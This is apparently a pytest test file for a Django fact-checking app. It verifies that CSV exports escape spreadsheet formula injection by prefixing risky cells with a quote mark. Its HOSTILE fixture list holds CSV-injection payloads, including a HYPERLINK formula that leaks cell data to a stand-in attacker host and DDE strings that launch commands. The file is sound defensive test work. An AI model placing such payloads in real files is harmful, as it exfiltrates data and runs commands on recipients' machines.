"""Hole 2 of the second probe: formulas in the CSV the desk hands out.

A hostile page's title, site name and sentences, or a contributor's claim wording,
began with =, +, - or @ and reached the per-event CSV (API, anonymous; admin) as they
were: a spreadsheet program opening the file runs them. Every cell that would start with
a formula character starts with a single quote instead, and the file starts with a
UTF-8 byte order mark.
"""

import csv
import io

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from rest_framework.test import APIClient

from articles.models import Article, Source
from claims.models import Appearance, Claim, Event
from claims.services import set_event_published
from factdesk import spreadsheets

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_event(seeded, editor, contributor):
    """A published event whose outlet, article titles, quotes and claims are hostile."""
    event = Event.objects.get(slug="10th-china-japan-rok-foreign-ministers-meeting")
    set_event_published(event=event, editor=editor, published=True)
    for number, source in enumerate(Source.objects.filter(articles__event=event).distinct()):
        Source.objects.filter(pk=source.pk).update(name=f"{HOSTILE[3]} {number}")
    articles = list(Article.objects.filter(event=event).order_by("pk"))
    for article, text in zip(articles, HOSTILE, strict=False):
        Article.objects.filter(pk=article.pk).update(title=text, url="")
    Appearance.objects.filter(article__event=event).update(quote=HOSTILE[2])
    claim = Claim.objects.filter(event=event).order_by("pk").first()
    api = APIClient()
    api.force_authenticate(contributor)
    patched = api.patch(f"/api/v1/claims/{claim.pk}/", {"text": HOSTILE[0]}, format="json")
    assert patched.status_code == 200, patched.content
    return event


def _cells(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), body[:20]
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    bad = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert bad == []


def test_the_api_csv_has_no_formula_cells(client, hostile_event):
    response = client.get(f"/api/v1/events/{hostile_event.slug}/export/", {"format": "csv"})
    assert response.status_code == 200
    rows = _cells(response.content)
    _assert_no_formula(rows)
    cells = {cell for row in rows for cell in row}
    # The text is all there, behind its quote mark.
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[3] + " 0" in cells
    assert "'" + HOSTILE[2] in cells


def test_the_admin_csv_has_no_formula_cells(client, editor, hostile_event):
    client.force_login(editor)
    response = client.post(
        reverse("admin:claims_event_changelist"),
        {"action": "export_csv", "_selected_action": [e.pk for e in Event.objects.all()]},
    )
    rows = _cells(response.content)
    assert rows[0][0] == "event"
    assert [row[0] for row in rows].count("event") == 1  # one header for all the events
    _assert_no_formula(rows)


@given(st.text())
def test_no_text_becomes_a_cell_that_starts_with_a_formula_character(text):
    cell = spreadsheets.safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)  # nothing else changes
    # Through the CSV writer and back, as a spreadsheet program reads the file.
    document = spreadsheets.csv_text(["a", "b"], [{"a": text, "b": 1}])
    (header, row) = list(csv.reader(io.StringIO(document.removeprefix("\ufeff"), newline="")))
    assert row[0] == cell and not row[0].startswith(FORMULA_STARTS)
